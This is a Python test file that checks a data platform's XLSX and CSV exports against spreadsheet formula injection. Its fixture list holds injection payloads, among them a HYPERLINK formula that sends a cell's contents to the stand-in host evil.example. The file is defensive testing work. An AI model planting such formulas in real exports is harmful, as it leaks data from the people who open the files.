"""Exports never turn data into spreadsheet formulas (issue 11, item 7).

XLSX: every text value is written as text (an inline string), never as a formula or an
error value, whatever it starts with. CSV: OWASP's escaping (a ``'`` before a cell that
starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return) only when
``BELFORT_CSV_FORMULA_ESCAPE`` asks for it; numbers are never escaped.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from belfort.app import create_app
from belfort.platform import Platform
from belfort.policy.principals import CLI_ADMIN
from belfort.publishing import ingest_file
from belfort.settings import Settings

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\tx=1",
    "#N/A",
    "gewoon",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv_source(directory: Path) -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\n")
    writer.writerow(["naam", "saldo", "commentaar"])
    for i, text in enumerate(HOSTILE):
        writer.writerow([text, -5 * (i + 1), "ok" if i % 2 else "-" + text])
    path = directory / "formules.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def _platform(tmp_path: Path, **settings: object) -> Platform:
    url = f"sqlite:///{tmp_path / 'catalog.sqlite'}"
    platform = Platform(Settings(data_dir=tmp_path / "data", database_url=url, **settings))
    metadata = {"title_nl": "=1+1 formules", "organisation": "Stad Gent", "themes": ["GOVE"],
                "keywords": ["test"]}
    ingest_file(platform, CLI_ADMIN, "formules", _csv_source(tmp_path), metadata=metadata)
    return platform


@pytest.fixture
def plain(tmp_path: Path) -> Iterator[TestClient]:
    platform = _platform(tmp_path)
    try:
        with TestClient(create_app(platform)) as client:
            yield client
    finally:
        platform.close()


@pytest.fixture
def escaping(tmp_path: Path) -> Iterator[TestClient]:
    platform = _platform(tmp_path, csv_formula_escape=True)
    try:
        with TestClient(create_app(platform)) as client:
            yield client
    finally:
        platform.close()


XLSX_URLS = [
    "/api/explore/v2.1/catalog/datasets/formules/exports/xlsx",
    "/api/records/1.0/download/?dataset=formules&format=xlsx",
    "/explore/dataset/formules/download/?format=xlsx",
]


@pytest.mark.parametrize("url", XLSX_URLS)
def test_xlsx_writes_text_as_text(plain: TestClient, url: str) -> None:
    r = plain.get(url)
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == HOSTILE
    for row in rows:
        assert row[0].data_type == "s", (row[0].value, row[0].data_type)
        assert row[2].data_type == "s", (row[2].value, row[2].data_type)
        assert row[1].data_type == "n" and isinstance(row[1].value, int) and row[1].value < 0
    # and the file itself holds no formula for any reader to evaluate
    with zipfile.ZipFile(io.BytesIO(r.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
                assert 't="e"' not in xml, name


def test_xlsx_header_from_labels_is_text(plain: TestClient) -> None:
    r = plain.get(XLSX_URLS[1] + "&use_labels_for_header=true")
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert all(cell.data_type == "s" for cell in next(sheet.iter_rows(max_row=1)))


CSV_URLS = [
    "/api/explore/v2.1/catalog/datasets/formules/exports/csv",
    "/api/records/1.0/download/?dataset=formules&format=csv",
    "/api/belfort/v1/datasets/formules/exports/csv",
]


def _csv_rows(text: str) -> list[list[str]]:
    body = text.lstrip("\ufeff")
    delimiter = ";" if body.split("\n", 1)[0].count(";") else ","
    return list(csv.reader(io.StringIO(body, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("url", CSV_URLS)
def test_csv_unescaped_by_default(plain: TestClient, url: str) -> None:
    """Opendatasoft's behaviour: values exactly as stored."""
    rows = _csv_rows(plain.get(url).text)
    assert [row[0] for row in rows[1:]] == HOSTILE


@pytest.mark.parametrize("url", CSV_URLS)
def test_csv_formula_escape(escaping: TestClient, url: str) -> None:
    r = escaping.get(url)
    assert r.status_code == 200, r.text
    rows = _csv_rows(r.text)
    assert rows[0] == ["naam", "saldo", "commentaar"]
    for row, original in zip(rows[1:], HOSTILE, strict=True):
        expected = "'" + original if original.startswith(FORMULA_START) else original
        assert row[0] == expected
        assert int(row[1]) < 0  # a negative number is a number, not a formula
        assert not row[2].startswith(FORMULA_START)


def test_catalogue_csv_formula_escape(escaping: TestClient, plain: TestClient) -> None:
    url = "/api/explore/v2.1/catalog/exports/csv"
    assert "'=1+1 formules" in escaping.get(url).text
    assert "'=1+1" not in plain.get(url).text and "=1+1 formules" in plain.get(url).text
